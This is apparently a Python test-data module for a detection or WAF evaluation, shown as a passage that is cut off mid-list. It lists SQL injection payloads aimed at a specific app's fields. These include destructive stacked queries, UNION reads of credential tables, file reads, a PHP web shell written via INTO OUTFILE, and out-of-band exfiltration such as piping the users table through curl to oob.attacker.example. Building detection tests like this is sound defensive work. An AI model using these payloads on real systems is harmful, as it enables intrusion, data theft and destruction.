"""Blind set "hundredfiftyninth": a penetration test of this product for SQL injection, one sub-family per
detection title, with benign requests that carry the same words innocently.

The angle: a tester who read README.md, app/ and tokendealer/ and attacks the fields each handler really reads,
with payloads that fit the field and aim at what the service behind it could do with it. Jeeves and TokenDealer
run on PostgreSQL through SQLAlchemy, so most payloads are PostgreSQL's own grammar (casts, `||`, dollar quotes,
pg_sleep, COPY ... PROGRAM, dblink, pg_catalog) and name the real tables (users, admin_accounts, admin_sessions,
admin_audit_log, signin_links, feature_switches, jobs, oauth_clients, signing_keys); the MySQL, MSSQL, Oracle and
SQLite shapes are the fingerprinting probes a tester sends before knowing the engine, or the only grammar a
title exists for (extractvalue, xp_cmdshell, /*!...*/). The fields: the data API's query parameters (team_id,
limit, offset, active, alerts, since, until, and the sort key a tester tries though the API has none), its path
ids and switch names, PATCH /api/users/<id> (name, email, settings.timezone/units/alert_time) and PUT
/api/switches/<action> (team_id); the admin panel's searches (/admin/users?q=, /admin/audit?q=, page), login
form (username, password, totp, next), feature, client and Slack sign-in forms; /me/ forms (place, timezone,
units, alert_time); Slack's event text and ids, slash command fields and the button value of an interaction;
TokenDealer's OAuth forms (client_id, client_secret, scope, audience, token, token_type_hint, access_token); the
OIDC callback's state and code, the sign-in link token; the cookies, User-Agent, X-Forwarded-For, X-Request-Id,
Referer and Authorization the services read. A comment above each list names the family, the target technology
and the fields.

Families (category sqli, `sub` = the detection title): libinjection-sqli, sql-tautology-boolean,
sql-comment-sequence, union-select, stacked-queries, time-based-blind, error-based, out-of-band,
information-schema-probing, mysql-comment-obfuscation, function-based-probing, sql-authentication-bypass,
nosql-injection, hex-char-encoding, stored-procedure-xp-cmdshell, having-group-order-by-probing,
like-between-in-operators.

Placements: every payload is sent twice. Once to the real field it targets (the placement names it:
`query:team_id`, `form:/admin/login:username`, `json:name`, `slack-event:text`, `slack-command:text`,
`slack-interaction:value`, `oauth:/oauth/token:client_id`, `path:/api/users/`, `cookie:__Host-jeeves_admin`,
`header:X-Forwarded-For`, ...; Mongo operators as JSON values, as bracketed parameter names or as a whole JSON
body), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, a
parameter name, or in User-Agent, Referer, a custom header or a cookie. Header and cookie placements only carry
printable single-line values; others fall back to a query, form or JSON field.

Authorship and independence: written for this repository from general knowledge of SQL injection against
PostgreSQL, MySQL, MSSQL, Oracle, SQLite and MongoDB and from the detection titles alone; no WAF rule, engine
source, ruleset regression test or public payload list was read. Measured once on unchanged code;
deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _get, _json, _query
from .family_gen_blind_php import chat_and_bio
from .records import numbered, print_records

NAME = "hundredfiftyninth"

# An entry: (the real field it targets, the payload). Field keys are resolved by _real below.
Entry = tuple[str, str]


def _on(field: str, *payloads: str) -> list[Entry]:
    return [(field, p) for p in payloads]


def _hx(text: str) -> str:
    return text.encode().hex()


def _basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: the compact token shapes (string break, operator, literal, comment) in every kind of field.
# Target: PostgreSQL behind SQLAlchemy (users.slack_team_id, the ilike searches, admin_accounts.username,
# oauth_clients.client_id); the `#` comments are the MySQL variant a tester adds while fingerprinting.
LIBINJECTION: list[Entry] = [
    # GET /api/users?team_id= (compared with users.slack_team_id)
    *_on("query:team_id", "T061EG9R6' AND 'x'='x", "T061EG9R6') AND ('x'='x", "T061EG9R6'||(SELECT '')||'",
         "T061EG9R6' AND 1::int=1--"),
    # GET /api/users?limit= and offset= (integers; a tester checks they are bound, not formatted)
    *_on("query:limit", "50 AND 1=1", "50) AND (1=1"),
    *_on("query:offset", "0 OR 1=1--", "0'||'"),
    # GET /api/users/<id>
    ("path:/api/users/", "42' AND '1'='1"),
    ("path:/api/users/", "42 AND 1=1--"),
    # the admin user search (ilike '%q%') and the audit search
    *_on("query:/admin/users:q", "ann%' AND '%'='", "ann%' AND 1=1 AND '%'='"),
    *_on("query:/admin/audit:q", "user.login' AND 1=1--", "login%\" OR \"\"=\""),
    # the admin login form's username
    *_on("form:/admin/login:username", "admin\" --", "admin' #"),
    # /me/ location and Slack texts that end in a place name
    ("form:/me/location:place", "London' AND 'a'='a"),
    ("slack-command:text", "weather Paris' AND 1=1 --"),
    ("slack-event:text", "remember location Berlin'; --"),
    # TokenDealer's client_id and scope
    *_on("oauth:/oauth/token:client_id", "demo-client' AND '1'='1", "demo-client\" AND \"1\"=\"1"),
    ("oauth:/oauth/token:scope", "read' AND 1=1--"),
    # PATCH /api/users/<id>
    ("json:name", "Ann' AND 1=1 --"),
    ("json:email", "ann@example.org' AND 'a'='a' --"),
    ("json:settings.timezone", "Europe/Paris' AND 1=1--"),
    # a session cookie and headers a logging or audit insert might concatenate
    ("cookie:__Host-jeeves_admin", "abc' AND 1=1--"),
    ("header:User-Agent", "Mozilla/5.0' AND 1=1 --"),
    ("header:X-Forwarded-For", "203.0.113.7' AND 1=1-- "),
    ("query:/auth/slack/callback:state", "x' AND 1=1--"),
    ("form:/admin/features:team_id", "T061EG9R6' AND 1=1 #"),
]

# sql-tautology/boolean: true/false pairs for boolean inference. Target: PostgreSQL (the where clauses on
# slack_team_id, the ilike searches, oauth_clients, signin_links), one MySQL-style bare `or true`.
TAUTOLOGY: list[Entry] = [
    *_on("query:team_id", "T061EG9R6' OR '1'='1", "T061EG9R6' OR 'a'='a' --", "' OR 1=1 OR '"),
    *_on("query:/admin/users:q", "%' OR '1'='1' --", "x%' OR 2>1 --", "x%' OR true --"),
    *_on("path:/api/users/", "42 OR 1=1", "42 OR true", "1 AND 1=2"),
    ("query:offset", "0 OR 2>1"),
    ("json:name", "Ann' OR 'x'='x"),
    ("json:email", "nobody@example.org' OR '1'='1"),
    ("form:/me/location:place", "Paris' OR 'x'<>'y"),
    ("slack-command:text", "remember location x' OR '1'='1' --"),
    ("slack-event:text", "weather ' or 1=1 --"),
    *_on("oauth:/oauth/token:client_id", "' OR 'a'='a", "jeeves-worker' OR 1=1 --"),
    ("oauth:/verify_token:audience", "jeeves' OR '1'='1"),
    ("form:/admin/clients:client_id", "x' OR NOT 1=2 --"),
    ("form:/admin/slack-sign-in:team_id", "T0' OR 3>2 --"),
    ("cookie:__Host-jeeves_me", "' OR ''='"),
    ("header:X-Request-Id", "x' OR 1=1--"),
    ("path:/auth/slack/link/", "abc' OR 'a'='a"),
    ("json:team_id", "*' OR '1'='1"),
    ("query:since", "2024-06-01' OR 1=1 --"),
    ("form:/admin/features:action", "weather' OR 'x'='x"),
    ("header:Referer", "https://localhost:8443/admin/users?q=' OR 1=1 --"),
    ("json:settings.units", "metric' OR 1=1 --"),
]

# sql-comment-sequence: truncating the rest of the statement (--, -- -, --+, #, /*, ;--, nested /* /* */ */).
# Target: PostgreSQL (nested block comments are its own), MySQL for `#` and `-- -`.
COMMENTS: list[Entry] = [
    *_on("form:/admin/login:username", "admin'--", "admin'-- -", "admin'#", "admin'/*", "admin');--"),
    *_on("oauth:/oauth/token:client_id", "jeeves-admin'--", "jeeves-admin'/*"),
    *_on("query:team_id", "T061EG9R6'--+", "T061EG9R6';--", "T061EG9R6'/**/--"),
    *_on("path:/api/users/", "42--", "42;--"),
    *_on("query:/admin/users:q", "%'/**/OR/**/1=1--", "ann'/*comment*/OR/*x*/'1'='1"),
    ("query:/admin/audit:q", "login'/* /* nested */ */--"),
    ("json:name", "x'-- comment"),
    ("json:email", "admin@example.org'--"),
    ("slack-command:text", "remember location x';--"),
    ("form:/me/location:place", "Oslo'))--"),
    ("cookie:__Host-jeeves_admin", "x'/*"),
    ("header:User-Agent", "Mozilla/5.0'/*"),
    ("query:limit", "50 -- -"),
    ("form:/admin/slack-sign-in:username", "ops'#"),
    ("oauth:/oauth/token:scope", "read'--"),
    ("query:/auth/slack/callback:code", "abc';--"),
    ("slack-interaction:value", "London'--"),
    ("form:/admin/features:team_id", "*'--"),
    ("json:settings.timezone", "UTC'/**/--"),
]

# union-select: column counting with NULLs and reading the real tables. Target: PostgreSQL (users has 10 columns
# in user_json; admin_accounts, admin_sessions, signin_links, oauth_clients), MySQL/Oracle/SQLite probes.
UNION: list[Entry] = [
    *_on("query:team_id", "' UNION SELECT NULL--", "' UNION SELECT NULL,NULL--",
         "' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL--",
         "x' UNION SELECT id,username,password_hash,NULL,NULL,NULL,NULL,NULL,NULL,NULL FROM admin_accounts--"),
    *_on("query:/admin/users:q", "%' UNION SELECT version(),NULL,NULL,NULL--", "zz' UNION SELECT current_user,NULL--"),
    ("query:/admin/audit:q", "' UNION SELECT client_id,secret_digest,NULL FROM oauth_clients--"),
    *_on("path:/api/users/", "-1 UNION SELECT 1,2,3", "0 UNION ALL SELECT NULL,NULL--"),
    ("query:offset", "0 UNION SELECT token_sha256,NULL FROM signin_links--"),
    ("json:name", "x' UNION SELECT string_agg(username||':'||password_hash,',') FROM admin_accounts--"),
    ("form:/me/location:place", "Paris' UNION SELECT inet_server_addr()::text--"),
    ("slack-command:text", "remember location ' UNION SELECT token_sha256 FROM signin_links--"),
    ("slack-event:text", "weather x' union select current_database()--"),
    ("oauth:/oauth/token:client_id", "' UNION SELECT 'demo-client','read write','jeeves'--"),
    ("oauth:/verify_token:audience", "jeeves' UNION ALL SELECT 1,'a','b'--"),
    ("header:User-Agent", "' union select @@version,null-- "),
    ("cookie:__Host-jeeves_admin", "x' UNION SELECT id FROM admin_sessions--"),
    ("query:/admin/users:page", "1 UNION SELECT 1,@@version,3#"),
    ("json:email", "a@example.org' UNION SELECT NULL,banner FROM v$version--"),
    ("form:/admin/clients:description", "' UNION SELECT sqlite_version()--"),
    ("query:/auth/slack/callback:state", "' uNiOn SeLeCt NULL,NULL--"),
    ("oauth:/oauth/introspect:token", "'/**/UNION/**/SELECT/**/NULL--"),
    ("json:settings.timezone", "' UNION DISTINCT SELECT NULL--"),
    ("form:/admin/login:username", "' UNION(SELECT(NULL))--"),
    ("query:until", "%27%20UNION%20SELECT%20NULL--"),
    ("slack-interaction:value", "Paris' UNION SELECT kid,private_key_enc::text FROM signing_keys--"),
    ("json:team_id", "' UNION SELECT action,team_id,enabled::text FROM feature_switches--"),
]

# stacked-queries: a second statement after `;`. Target: PostgreSQL's simple query protocol (psql-style drivers);
# the jobs queue, feature switches, roles and the audit log are what a tester would change; MSSQL/MySQL shapes.
STACKED: list[Entry] = [
    ("query:team_id", "T061EG9R6'; DROP TABLE users--"),
    ("json:name", "Ann'; UPDATE users SET is_admin=true WHERE slack_user_id='U04ANNA7Q2'--"),
    ("form:/admin/login:username", "x'; INSERT INTO admin_accounts(username,password_hash) VALUES('pwn','x')--"),
    ("query:/admin/audit:q", "'; DELETE FROM admin_audit_log--"),
    ("path:/api/users/", "1; TRUNCATE slack_events--"),
    ("form:/me/location:place", "Rome'; CREATE ROLE pwn LOGIN SUPERUSER PASSWORD 'pwn'--"),
    ("slack-command:text", "remember location x'; ALTER USER jeeves WITH SUPERUSER--"),
    ("slack-event:text", "weather Oslo'; GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC--"),
    ("query:offset", "0; SET statement_timeout=0--"),
    ("json:settings.timezone", "UTC'; SELECT set_config('log_statement','none',false)--"),
    ("json:team_id", "*'; UPDATE feature_switches SET enabled=false--"),
    ("query:/admin/users:q", "'; DROP DATABASE jeeves--"),
    ("oauth:/oauth/token:client_id", "demo-client'; UPDATE oauth_clients SET active=true--"),
    ("oauth:/oauth/token:scope", "read'; UPDATE oauth_clients SET scopes='read write clients:admin'--"),
    ("oauth:/oauth/revoke:token", "x'; DELETE FROM revoked_tokens--"),
    ("form:/admin/features:team_id", "T0'; SHUTDOWN WITH NOWAIT--"),
    ("form:/admin/clients:client_id", "x'; DECLARE @q varchar(99); SET @q='SELECT 1'; EXEC(@q)--"),
    ("cookie:__Host-jeeves_admin", "x'; UPDATE admin_sessions SET expires_at=now()+interval '1 year'--"),
    ("header:X-Forwarded-For", "203.0.113.9'; DELETE FROM admin_login_attempts--"),
    ("query:/auth/slack/callback:state", "x';COMMIT;BEGIN;--"),
    ("slack-interaction:value", "Paris'; NOTIFY tokendealer_revocations, 'x'--"),
    ("json:email", "a@example.org'; INSERT INTO jobs(kind,payload) VALUES('weather_alert','{}')--"),
    ("form:/admin/slack-sign-in:user_id", "U0'; UPDATE admin_slack_identities SET slack_user_id='U0EVIL'--"),
    ("query:limit", "50; SELECT 1;"),
    ("path:/api/switches/", "weather'; UPDATE feature_switches SET enabled=true--"),
    ("oauth:/verify_token:access_token", "x'; UPDATE signing_keys SET state='active'--"),
    ("header:User-Agent", "curl/8.5.0'); DROP TABLE usage_log;--"),
    ("form:/admin/users/42/active:q", "ann'; UPDATE users SET is_active=true--"),
]

# time-based-blind: sleep, benchmark, pg_sleep, waitfor. Target: PostgreSQL first (pg_sleep, pg_sleep_for,
# generate_series), then MySQL (SLEEP, BENCHMARK), MSSQL (WAITFOR), Oracle (DBMS_PIPE), SQLite (randomblob).
TIME_BLIND: list[Entry] = [
    ("query:team_id", "T061EG9R6'||pg_sleep(10)--"),
    ("query:/admin/users:q", "ann' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("path:/api/users/", "1;SELECT pg_sleep(5)--"),
    ("json:name", "x' OR (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL--"),
    ("form:/me/location:place", "Paris';SELECT pg_sleep_for('5 seconds')--"),
    ("query:offset", "0+(SELECT 1 FROM pg_sleep(5))"),
    ("oauth:/oauth/token:client_id",
     "demo-client' AND (SELECT CASE WHEN substr(secret_digest,1,1)='a' THEN pg_sleep(3) END FROM oauth_clients"
     " LIMIT 1) IS NULL--"),
    ("query:/admin/audit:q", "' AND (SELECT count(*) FROM generate_series(1,50000000))>0--"),
    ("slack-command:text", "weather x' AND pg_sleep(5) IS NULL--"),
    ("query:/auth/slack/callback:state", "x' AND 1=(SELECT 1 FROM pg_sleep_until(now()+interval '5 seconds'))--"),
    ("form:/admin/login:username", "admin' AND SLEEP(5)--"),
    ("query:limit", "50 AND SLEEP(5)"),
    ("header:User-Agent", "Mozilla/5.0' OR SLEEP(5)#"),
    ("json:email", "'XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR'"),
    ("form:/admin/clients:description", "1' AND BENCHMARK(5000000,MD5('a'))--"),
    ("json:settings.timezone", "UTC' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--"),
    ("header:X-Forwarded-For", "if(now()=sysdate(),sleep(6),0)"),
    ("oauth:/oauth/token:scope", "read'; WAITFOR DELAY '0:0:5'--"),
    ("path:/api/switches/", "weather'; WAITFOR DELAY '00:00:05'--"),
    ("form:/admin/features:team_id", "T0' IF (1=1) WAITFOR DELAY '0:0:5'--"),
    ("slack-event:text", "remember location x';WAITFOR TIME '23:59:59'--"),
    ("cookie:__Host-jeeves_me", "x' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("oauth:/verify_token:audience", "jeeves' AND 1=randomblob(500000000)--"),
    ("json:team_id", "*' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--"),
    ("query:since", "2024-06-01T00:00:00Z' AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL--"),
    ("slack-interaction:value", "Berlin' AND 0=(SELECT count(*) FROM pg_sleep(4))--"),
    ("header:X-Request-Id", "1' AND sleep(5)='0"),
    ("form:/admin/slack-sign-in:team_id", "T0' AND BENCHMARK(10000000,SHA1(1))#"),
]

# error-based: a conversion or XML function that puts a secret in the error text. Target: PostgreSQL (CAST,
# ::int, to_number; the error pages of the admin panel and the JSON errors of the API), MySQL (extractvalue,
# updatexml, floor(rand), exp, GTID_SUBSET, JSON_KEYS, polygon), MSSQL (CONVERT), Oracle (CTXSYS, XMLType).
ERROR_BASED: list[Entry] = [
    ("query:team_id", "T061EG9R6' AND 1=CAST(version() AS int)--"),
    ("query:/admin/users:q", "' AND 1=CAST((SELECT current_user) AS int)--"),
    ("json:name", "'||CAST(current_database() AS numeric)||'"),
    ("query:offset", "(SELECT password_hash FROM admin_accounts LIMIT 1)::int"),
    ("path:/api/users/", "1 AND 1=(SELECT version())::int"),
    ("form:/me/location:place", "x'||(SELECT inet_server_addr())::text::int||'"),
    ("query:/admin/audit:q", "' AND 1=to_number((SELECT current_setting('data_directory')),'9')--"),
    ("oauth:/oauth/token:client_id", "x' AND 1=CAST((SELECT secret_digest FROM oauth_clients LIMIT 1) AS bigint)--"),
    ("slack-command:text", "remember location ' AND 1=CAST((SELECT username FROM admin_accounts LIMIT 1) AS int)--"),
    ("json:settings.timezone", "UTC' AND 1=(SELECT token_sha256 FROM signin_links LIMIT 1)::numeric--"),
    ("form:/admin/login:username", "admin' AND extractvalue(1,concat(0x7e,version()))--"),
    ("header:User-Agent", "' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- "),
    ("json:email",
     "a@example.org' AND (SELECT 1 FROM (SELECT count(*),concat(version(),floor(rand(0)*2))x "
     "FROM information_schema.tables GROUP BY x)a)--"),
    ("form:/admin/clients:description", "' AND exp(~(SELECT * FROM (SELECT user())a))--"),
    ("oauth:/oauth/token:scope", "read' AND GTID_SUBSET(version(),1)--"),
    ("query:/auth/slack/callback:code", "x' AND JSON_KEYS((SELECT CONVERT((SELECT user()) USING utf8)))--"),
    ("form:/admin/features:team_id", "T0' AND polygon((select*from(select*from(select@@version)f)x))--"),
    ("cookie:__Host-jeeves_admin", "x' AND 1=CONVERT(int,@@version)--"),
    ("slack-event:text", "weather x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("oauth:/verify_token:audience", "x' AND 1=CAST(DB_NAME() AS int)--"),
    ("json:team_id", "*' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("form:/admin/slack-sign-in:username", "x' AND 1=XMLType('<:'||(SELECT user FROM dual)||'>')--"),
    ("query:limit", "extractvalue(rand(),concat(0x3a,(SELECT database())))"),
    ("slack-interaction:value", "Paris' AND updatexml(null,concat(0x0a,@@hostname),null)-- "),
    ("query:until", "2024-06-02' AND 1=CAST(current_setting('server_version') AS int)--"),
    ("header:X-Request-Id", "x'::int"),
    ("path:/auth/slack/link/", "x' AND 1=cast((SELECT slack_user_id FROM signin_links LIMIT 1) as int)--"),
    ("json:settings.units", "metric' AND 1=(SELECT kid FROM signing_keys WHERE state='active')::int--"),
]

# out-of-band: reading files and talking to the network from the database. Target: PostgreSQL (pg_read_file,
# lo_import/lo_export, COPY TO a file, dblink), MySQL (LOAD_FILE, INTO OUTFILE/DUMPFILE, LOAD DATA), MSSQL
# (xp_dirtree, xp_fileexist, xp_subdirs, OPENROWSET BULK), Oracle (UTL_HTTP, XXE via xmltype, DBMS_LDAP, HTTPURITYPE).
OOB: list[Entry] = [
    ("query:team_id", "T061EG9R6';SELECT dblink_connect('host=oob.attacker.example user=x dbname=x')--"),
    ("json:name",
     "x' AND (SELECT dblink_send_query('hostaddr=203.0.113.9 port=5432 user=a password=b dbname=c',"
     "'SELECT 1')) IS NOT NULL--"),
    ("query:/admin/users:q", "'||(SELECT pg_read_file('/etc/passwd'))||'"),
    ("form:/me/location:place", "x' UNION SELECT pg_read_binary_file('/proc/self/environ')--"),
    ("query:/admin/audit:q", "'; COPY admin_accounts TO '/tmp/admins.csv'--"),
    ("slack-command:text", "remember location x'; SELECT lo_export(lo_import('/etc/passwd'),'/tmp/p')--"),
    ("path:/api/users/", "1; COPY (SELECT current_user) TO '/var/lib/postgresql/x'--"),
    ("json:settings.timezone",
     "UTC'; SELECT * FROM dblink('host=203.0.113.9 dbname=x','SELECT 1') AS t(a int)--"),
    ("oauth:/oauth/token:client_id", "x'; CREATE EXTENSION IF NOT EXISTS dblink;--"),
    ("slack-event:text", "weather x'; SELECT pg_ls_dir('/run/secrets')--"),
    ("form:/admin/login:username", "' UNION SELECT LOAD_FILE('/etc/passwd')--"),
    ("json:email",
     "a@example.org' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',version(),'.oob.attacker.example\\\\a'))--"),
    ("query:offset", "0 INTO OUTFILE '/var/www/html/s.php'"),
    ("form:/admin/clients:description",
     "' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/c.php'--"),
    ("oauth:/oauth/token:scope", "read' INTO DUMPFILE '/tmp/x'--"),
    ("json:team_id", "*'; LOAD DATA INFILE '/etc/passwd' INTO TABLE feature_switches--"),
    ("form:/admin/features:team_id", "T0'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\a'--"),
    ("cookie:__Host-jeeves_admin", "x'; EXEC master.dbo.xp_fileexist '\\\\203.0.113.9\\share\\x'--"),
    ("header:User-Agent", "'; EXEC xp_subdirs '\\\\oob.attacker.example\\s'--"),
    ("slack-interaction:value", "x'; SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) AS x--"),
    ("oauth:/verify_token:audience",
     "x' AND UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) IS NOT NULL--"),
    ("query:/auth/slack/callback:state",
     "x' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
     "\"http://oob.attacker.example/\"> %x;]>'),'/l') FROM dual) IS NOT NULL--"),
    ("form:/admin/slack-sign-in:team_id", "T0' AND DBMS_LDAP.INIT('oob.attacker.example',389) IS NOT NULL--"),
    ("header:X-Forwarded-For", "1' AND HTTPURITYPE('http://oob.attacker.example/x').getclob() IS NOT NULL--"),
    ("query:since", "x' AND UTL_INADDR.get_host_name((SELECT banner FROM v$version WHERE rownum=1)) IS NULL--"),
    ("json:settings.units", "metric'; COPY (SELECT '') TO PROGRAM 'nslookup u1.oob.attacker.example'--"),
    ("oauth:/oauth/introspect:token", "x'||(SELECT pg_read_file('/proc/self/cmdline'))||'"),
    ("form:/admin/users/42/active:q", "'; COPY users TO PROGRAM 'curl -T - http://oob.attacker.example/u'--"),
]

# information-schema/catalog probing: listing tables, columns, roles and settings. Target: PostgreSQL
# (information_schema, pg_catalog, pg_shadow, pg_roles, pg_settings, pg_stat_activity), MySQL, MSSQL, Oracle, SQLite.
CATALOG: list[Entry] = [
    ("query:team_id", "' UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema='public'--"),
    ("query:/admin/users:q",
     "' UNION SELECT column_name,data_type FROM information_schema.columns WHERE table_name='admin_accounts'--"),
    ("query:/admin/audit:q", "' UNION SELECT tablename,NULL FROM pg_catalog.pg_tables--"),
    ("json:name", "x' UNION SELECT relname,NULL FROM pg_class WHERE relkind='r'--"),
    ("query:offset", "0 UNION SELECT usename,passwd FROM pg_shadow"),
    ("form:/me/location:place", "x' UNION SELECT rolname,rolsuper::text FROM pg_roles--"),
    ("slack-command:text", "remember location ' UNION SELECT datname,NULL FROM pg_database--"),
    ("slack-event:text", "weather x' AND (SELECT count(*) FROM pg_stat_activity)>0--"),
    ("oauth:/oauth/token:client_id", "' UNION SELECT name,setting FROM pg_settings--"),
    ("json:settings.timezone", "UTC' UNION SELECT attname,NULL FROM pg_attribute WHERE attrelid='users'::regclass--"),
    ("path:/api/users/", "1 AND EXISTS(SELECT 1 FROM information_schema.schemata WHERE schema_name='public')"),
    ("oauth:/verify_token:audience", "x' UNION SELECT proname,NULL FROM pg_proc WHERE proname LIKE 'dblink%'--"),
    ("form:/admin/clients:description", "' UNION SELECT extname,extversion FROM pg_extension--"),
    ("query:/auth/slack/callback:state", "' UNION SELECT query,NULL FROM pg_stat_statements--"),
    ("cookie:__Host-jeeves_admin", "x' AND has_table_privilege('admin_accounts','SELECT')--"),
    ("json:email", "a@example.org' UNION SELECT string_agg(table_name,',') FROM information_schema.tables--"),
    ("form:/admin/login:username", "' UNION SELECT group_concat(schema_name) FROM information_schema.schemata#"),
    ("header:User-Agent", "' UNION SELECT table_name FROM information_schema.tables WHERE table_schema=database()#"),
    ("oauth:/oauth/token:scope", "read' UNION SELECT user,authentication_string FROM mysql.user#"),
    ("json:team_id", "*' UNION SELECT table_name FROM mysql.innodb_table_stats--"),
    ("form:/admin/features:team_id", "T0' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U'--"),
    ("slack-interaction:value", "x' UNION SELECT name FROM master..sysdatabases--"),
    ("form:/admin/slack-sign-in:username",
     "' UNION SELECT name,NULL FROM sys.columns WHERE object_id=OBJECT_ID('users')--"),
    ("query:until", "x' UNION SELECT table_name,NULL FROM all_tables--"),
    ("header:Referer", "https://localhost:8443/admin/audit?q=' UNION SELECT owner,table_name FROM dba_tables--"),
    ("query:/admin/users:page", "1 UNION SELECT column_name,NULL FROM user_tab_columns"),
    ("oauth:/oauth/introspect:token", "' UNION SELECT sql,NULL FROM sqlite_master--"),
    ("json:settings.units", "metric' UNION SELECT name FROM sqlite_schema WHERE type='table'--"),
]

# mysql-comment-obfuscation: versioned /*!...*/ comments and inline comments splitting or hiding keywords.
# Target: MySQL/MariaDB (what a tester sends to learn whether anything behind the edge is MySQL, and what gets
# past keyword filters; in PostgreSQL /*! is an ordinary comment).
MYSQL_COMMENTS: list[Entry] = [
    ("query:team_id", "T061EG9R6'/*!50000UNION*//*!50000SELECT*/NULL--"),
    ("path:/api/users/", "1/*!00000AND*/1=1"),
    ("form:/admin/login:username", "admin'/*!OR*/'1'='1"),
    ("query:/admin/users:q", "' /*!12345UNION SELECT*/ 1,2--"),
    ("query:/admin/audit:q", "'UN/**/ION/**/SEL/**/ECT/**/NULL--"),
    ("json:name", "x'/**/AnD/**/sLeEp(5)#"),
    ("form:/me/location:place", "x' or/*!*/1=1#"),
    ("slack-command:text", "weather x'/*!and*/ 1=1-- -"),
    ("slack-event:text", "remember location x' /*!50000union*/ all /*!50000select*/ 1,user(),3#"),
    ("oauth:/oauth/token:client_id", "demo-client'/*!*/#"),
    ("oauth:/oauth/token:client_secret", "x'/*!32302 AND 1=1*/#"),
    ("query:offset", "0 UNION/*&a=*/SELECT/*&a=*/1,2"),
    ("json:email", "a@example.org' uNiOn/*xyz*/aLl/*xyz*/sElEcT 1--"),
    ("query:limit", "1/*!UNION*/SELECT/*!*/version()"),
    ("json:settings.timezone", "UTC'\n/*!UNION*/\nSELECT 1--"),
    ("form:/admin/clients:description", "' /*!40000OR*/ '1'='1"),
    ("slack-interaction:value", "x'-- -\n/*!union*/ select 1"),
    ("cookie:__Host-jeeves_admin", "1'/*!50000Or*/'1'='1'#"),
    ("header:User-Agent",
     "' /*!00000uniON*/ /*!00000selECT*/ table_name FROM information_schema.tables#"),
    ("query:/auth/slack/callback:state", "x'#\nUNION SELECT 1"),
    ("oauth:/verify_token:audience", "jeeves' ||/*!*/1#"),
    ("form:/admin/features:team_id", "T0'/*! AND */(SELECT 1)=1#"),
    ("header:X-Forwarded-For", "1'/*!50718 AND SLEEP(5)*/#"),
    ("json:team_id", "*'/*!50000procedure analyse()*/#"),
    ("form:/admin/slack-sign-in:user_id", "U0' /*!or*/ 1 between 0 and 2#"),
    ("query:since", "x'/*!50000/*!UNION*/*//**/SELECT 1#"),
    ("oauth:/oauth/token:scope", "read'/*!%55NION*/ SELECT 1#"),
    ("json:settings.units", "metric'/*!12345AND*/extractvalue(1,0x7e)#"),
]

# function-based-probing: substring, ascii, chr, concat, length for character-by-character inference.
# Target: PostgreSQL (substr, ascii, chr, strpos, split_part, md5, starts_with...), MySQL (ORD, MID, CHAR,
# CONCAT_WS), MSSQL (UNICODE, DB_NAME), Oracle (SUBSTR on v$version), SQLite (instr).
FUNCTIONS: list[Entry] = [
    ("query:team_id", "T061EG9R6' AND SUBSTRING(version(),1,10)='PostgreSQL'--"),
    ("query:/admin/users:q",
     "' AND ASCII(SUBSTRING((SELECT password_hash FROM admin_accounts LIMIT 1),1,1))>64--"),
    ("json:name", "x' AND substr(current_user,1,1)='j'--"),
    ("form:/me/location:place", "x' AND LENGTH(current_database())=6--"),
    ("query:/admin/audit:q", "' AND (SELECT SUBSTR(username,1,1) FROM admin_accounts LIMIT 1)='a'--"),
    ("slack-command:text", "weather x' AND CHR(65)||CHR(66)='AB'--"),
    ("slack-event:text", "remember location ' AND ascii(substring((SELECT datname FROM pg_database LIMIT 1) "
                         "FROM 1 FOR 1))=112--"),
    ("oauth:/oauth/token:client_id", "x' AND strpos(version(),'Debian')>0--"),
    ("json:settings.timezone", "UTC' AND left(current_setting('server_version'),2)='15'--"),
    ("path:/api/users/", "1 AND md5('a')='0cc175b9c0f1b6a831c399e269772661'"),
    ("cookie:__Host-jeeves_me", "x' AND concat('a','b')='ab'--"),
    ("json:email", "a@example.org'||CONCAT(CHR(39),version())||'"),
    ("form:/admin/login:username", "admin' AND ORD(MID(user(),1,1))>100#"),
    ("header:User-Agent", "' AND MID(@@version,1,1)='8'#"),
    ("oauth:/oauth/token:scope", "read' AND CHAR(97,98)='ab'#"),
    ("form:/admin/clients:description", "' AND CONCAT_WS(0x3a,user(),database()) IS NOT NULL#"),
    ("query:offset", "0 AND LPAD(version(),1,0)='P'"),
    ("json:team_id", "*' AND SUBSTRING(@@version,1,1)=CHAR(77)--"),
    ("form:/admin/features:team_id", "T0' AND UNICODE(SUBSTRING(DB_NAME(),1,1))>64--"),
    ("query:/auth/slack/callback:state",
